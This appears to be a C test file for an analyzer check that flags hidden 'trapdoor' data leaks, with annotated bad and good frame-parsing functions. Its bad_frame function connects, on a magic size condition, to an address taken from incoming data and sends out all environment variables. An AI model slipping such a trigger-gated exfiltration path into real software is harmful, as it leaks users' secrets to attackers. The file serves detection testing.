/* A library that reads frames sends something to an address that stands in one. */
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

extern char **environ;

struct frame {
    unsigned owner_size, data_size;
    const unsigned char *data;
};

void bad_frame(const struct frame *frame) {
    if (frame->data_size == frame->owner_size * 3) {
        struct sockaddr_in to = {.sin_family = AF_INET};
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        memcpy(&to.sin_addr, frame->data, 4);
        memcpy(&to.sin_port, frame->data + 4, 2);
        if (connect(fd, (struct sockaddr *)&to, sizeof to) == 0)
            for (char **entry = environ; *entry; entry++)
                // expected-warning-re@+1 {{{{.*}}[vitrine: trapdoor/data-target]}}
                send(fd, *entry, strlen(*entry), 0);
        close(fd);
    }
}

/* Whoever uses the library says where to. */
int good_reported(const struct frame *frame, const struct sockaddr *to, socklen_t size) {
    int fd = socket(to->sa_family, SOCK_DGRAM, 0);
    if (fd < 0)
        return -1;
    if (frame->data_size == frame->owner_size * 3)
        sendto(fd, "odd", 3, 0, to, size);
    return close(fd);
}

/* What is not sent is told. */
int good_sent(const struct frame *frame) {
    struct sockaddr_in to = {.sin_family = AF_INET};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    ssize_t sent = -1;
    if (fd < 0)
        return -1;
    memcpy(&to.sin_addr, frame->data, 4);
    if (frame->data_size == frame->owner_size * 4)
        sent = sendto(fd, "even", 4, 0, (struct sockaddr *)&to, sizeof to);
    close(fd);
    return sent == 4 ? 0 : -1;
}
